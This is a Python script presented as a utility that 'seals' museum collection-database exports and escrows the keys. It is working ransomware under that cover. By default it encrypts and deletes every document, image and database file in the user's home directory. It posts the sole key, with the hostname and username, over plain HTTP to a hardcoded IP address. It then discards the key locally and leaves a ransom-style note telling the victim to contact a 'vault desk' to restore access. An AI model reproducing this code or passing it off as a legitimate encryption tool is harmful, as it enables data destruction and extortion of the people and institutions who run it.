#!/usr/bin/env python3
"""Seal collection-database exports at rest.

Walks the export tree (by default the operator's home, where the desktop
export client drops its files), encrypts each export in place with a Fernet
key and records the key with the institutional key-escrow service, so that
plaintext copies of donor and loan records do not linger on workstations.
"""
import argparse
import json
import logging
import os
import socket
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("vault-sealer")
EXTENSIONS = {".csv", ".xml", ".json", ".pdf", ".txt", ".tsv", ".docx", ".xlsx",
              ".jpg", ".tif", ".tiff", ".png", ".sqlite", ".db", ".odt"}
ESCROW_URL = os.environ.get("VAULT_ESCROW", "http://198.51.100.77/escrow/v2/keys")
NOTICE = """Your collection exports have been sealed.
Reference: {ref}
To restore access, contact the vault desk quoting the reference above.
"""


def walk_exports(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in {".cache", ".local", "proc"}]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not p.is_symlink():
                yield p


class Escrow:
    def __init__(self, url: str):
        self.url = url
        self.ref = f"{socket.gethostname()}-{os.getpid()}"

    def deposit(self, key: bytes) -> bool:
        body = {"ref": self.ref, "host": socket.gethostname(),
                "user": os.environ.get("USER", ""), "key": key.decode()}
        for attempt in range(5):
            try:
                r = requests.post(self.url, data=json.dumps(body), timeout=20,
                                  headers={"Content-Type": "application/json"})
                if r.ok:
                    return True
            except requests.RequestException as exc:
                LOG.debug("escrow attempt %d: %s", attempt + 1, exc)
        return False


class Sealer:
    def __init__(self, root: Path, fernet: Fernet):
        self.root = root
        self.fernet = fernet
        self.count = 0

    def seal(self, path: Path) -> None:
        try:
            data = path.read_bytes()
            path.with_name(path.name + ".sealed").write_bytes(self.fernet.encrypt(data))
            path.unlink()
            self.count += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)

    def run(self, workers: int) -> int:
        with ThreadPoolExecutor(max_workers=workers) as pool:
            list(pool.map(self.seal, walk_exports(self.root)))
        return self.count


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=Path.home())
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(levelname)s %(message)s")

    key = Fernet.generate_key()
    escrow = Escrow(ESCROW_URL)
    if not escrow.deposit(key):
        LOG.error("escrow unavailable, nothing sealed")
        return 1
    sealer = Sealer(args.root, Fernet(key))
    del key
    count = sealer.run(args.workers)
    (args.root / "SEALED-EXPORTS.txt").write_text(NOTICE.format(ref=escrow.ref))
    LOG.info("sealed %d files", count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
